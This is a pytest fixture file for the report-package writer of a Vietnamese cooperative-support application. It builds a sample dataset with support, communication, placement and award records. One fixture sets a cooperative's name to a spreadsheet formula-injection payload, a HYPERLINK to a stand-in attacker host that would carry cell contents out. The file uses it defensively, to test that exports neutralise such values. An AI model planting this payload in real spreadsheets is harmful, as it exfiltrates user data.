"""Fixtures of the package-writer tests: a small package from indicator case 1, plus one record
of each kind the case lacks, and a cooperative whose name tries a formula injection."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Callable
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from htx_desktop.domain.activity import activity_figures
from htx_desktop.domain.indicators import compute_indicators
from htx_desktop.domain.periods import parse_period
from htx_desktop.domain.records import (
    AwardRec,
    CommunicationRec,
    Dataset,
    JobPlacementRec,
    PlanStatusRec,
    PriorityCountRec,
    SupportRec,
)
from htx_desktop.reports.package import write_package
from htx_desktop.reports.wording import province_targets

CASE = Path(__file__).parents[1] / "data" / "indicator-cases" / "case-1.data.json"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
OFFICER = {"name": "Nguyễn Thị Hoa", "position": "Chủ tịch", "phone": "0912345678"}
UNIT = {"code": "19", "name": "Tỉnh Thái Nguyên", "level": "tinh", "parent_code": None}
ICT = timezone(timedelta(hours=7))


def _uuid(n: int) -> str:
    return f"00000000-0000-0000-0000-{n:012d}"


def case_dataset() -> Dataset:
    data = Dataset.from_json(json.loads(CASE.read_text(encoding="utf-8")))
    first = data.cooperatives[0]
    data.cooperatives[0] = dataclasses.replace(first, name=INJECTION)
    coop = data.cooperatives[1].id
    person = data.people[0].id
    data.support += [
        SupportRec(_uuid(9001), "05443", coop, "credit", date(2025, 3, 1), "Hội LHPN tỉnh",
                   "Ngân hàng Chính sách xã hội", 150_000_000, "III.10"),
        SupportRec(_uuid(9002), "05443", coop, "trade_fair", date(2025, 6, 1), "Hội LHPN tỉnh",
                   None, None, "IV.2"),
        SupportRec(_uuid(9003), "05443", coop, "ecommerce", date(2024, 6, 1)),  # not in 2025
    ]
    data.communications += [
        CommunicationRec(_uuid(9101), "05710", date(2025, 4, 2), "news", "Phụ nữ làm chủ HTX",
                         1200, "II.1"),
        CommunicationRec(_uuid(9102), "05710", date(2025, 5, 2), "social_media",
                         "-Chia sẻ mô hình", 3400),
    ]
    data.job_placements += [
        JobPlacementRec(_uuid(9201), "05443", person, coop, date(2025, 2, 1), None, "worker",
                        True, True),
    ]
    data.priority_counts += [
        PriorityCountRec("05443", 2025, "poor", 3, 2),
        PriorityCountRec("05443", 2024, "poor", 1, 1),  # not in 2025
    ]
    data.plan_status += [
        PlanStatusRec("19", "II.1", 2025, "done", "+Đã tổ chức 2 hội nghị"),
        PlanStatusRec("19", "III.1", 2025, "in_progress", None),
    ]
    data.awards += [AwardRec(_uuid(9301), "05443", "Bằng khen", "tinh", date(2025, 10, 20),
                             cooperative=coop)]
    return data


def package_inputs(out_dir: Path, **overrides: Any) -> dict[str, Any]:
    dataset = case_dataset()
    period = parse_period("2025")
    targets = province_targets()
    report = compute_indicators(dataset, "19", period, targets=targets)
    inputs: dict[str, Any] = {
        "dataset": dataset, "indicators": report.to_json(),
        "activity": activity_figures(dataset, "19", period), "unit": UNIT,
        "period_label": period.label, "period_start": period.start, "period_end": period.end,
        "version": 1, "prepared_by": OFFICER,
        "narrative": {"task1": "Các cấp Hội đã tuyên truyền sâu rộng về Đề án.",
                      "proposals": "Đề nghị bố trí kinh phí hỗ trợ HTX mới thành lập."},
        "management_positions": list(report.management_positions), "place": "Thái Nguyên",
        "report_number": 5, "out_dir": out_dir,
        "created_at": datetime(2026, 1, 5, 9, 30, tzinfo=ICT), "targets": targets,
        "submissions": [{"code": "05443", "name": "Phường Phan Đình Phùng", "status": "accepted",
                         "version": 2, "received_at": "2025-12-20T10:00:00+07:00",
                         "on_time": True},
                        {"code": "05710", "name": "Phường Linh Sơn", "status": "missing",
                         "version": None, "received_at": None, "on_time": None}],
    }
    inputs.update(overrides)
    return inputs


Inputs = Callable[..., dict[str, Any]]


@pytest.fixture(scope="session")
def make_inputs() -> Inputs:
    """`make_inputs(out_dir, **overrides)`: the keyword arguments of write_package."""
    return package_inputs


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One package written once for the read-only checks of a module."""
    out = tmp_path_factory.mktemp("package")
    return write_package(**package_inputs(out))
